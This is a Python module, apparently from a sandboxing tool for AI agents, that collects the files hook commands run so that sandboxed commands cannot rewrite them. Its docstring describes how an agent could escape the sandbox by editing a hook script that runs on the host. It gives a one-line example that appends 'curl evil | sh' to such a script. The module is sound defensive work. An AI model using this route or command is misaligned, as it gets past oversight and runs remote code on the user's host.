"""The files a hook command runs, so that no sandboxed command may rewrite
them: a hook runs on the host, unsandboxed, at the next tool call, so a
hook script inside the workspace is a file the host runs that the agent
could otherwise edit (`echo 'curl evil | sh' >> scripts/pre_bash.sh`).
"""

from __future__ import annotations

import os
import re
import shlex
from collections.abc import Iterable

from .config import HookCommand

_PROJECT_VARS = re.compile(r"\$\{?(CLAUDE_PROJECT_DIR|SHELLGATE_PROJECT_DIR)\}?")


def hook_files(hooks: Iterable[HookCommand], project_dir: str, home: str) -> list[str]:
    """Every existing file a hook's command names — its program and each
    argument that is a file (``python3 .claude/hooks/check.py``) — with the
    project variables and ``~`` expanded, relative names taken from the
    project, links followed to where they lead (the file that runs)."""
    found: list[str] = []
    for hook in hooks:
        text = _PROJECT_VARS.sub(lambda _: project_dir, hook.command)
        try:
            words = shlex.split(text, comments=True)
        except ValueError:
            words = text.split()
        for raw in words:
            word = home + raw[1:] if raw.startswith("~/") else raw
            if "/" not in word and not os.path.isfile(os.path.join(project_dir, word)):
                continue
            path = os.path.realpath(os.path.join(project_dir, word))
            if os.path.isfile(path):
                found.append(path)
            if word != path and os.path.isfile(os.path.join(project_dir, word)):
                # the link itself too: re-pointing it runs another file
                found.append(os.path.abspath(os.path.join(project_dir, word)))
    return list(dict.fromkeys(found))
